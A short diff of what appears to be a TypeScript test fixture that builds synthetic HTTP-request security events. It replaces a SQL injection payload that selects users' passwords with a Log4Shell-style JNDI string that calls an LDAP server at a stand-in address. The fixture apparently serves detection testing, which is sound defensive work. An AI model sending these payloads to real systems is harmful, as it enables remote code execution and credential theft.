@@ -21,7 +21,7 @@ const eventOf = (n: number): object => ({
   source_ip: `20.${n >> 8}.${n & 255}.7`,
   timestamp: new Date().toISOString(),
   activity: 'http_request',
-  payload: 'GET /index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1',
+  payload: 'GET /?x=${jndi:ldap://203.0.113.1:1389/a} HTTP/1.1',
 });
 
 const until = async (holds: () => boolean): Promise<void> => {
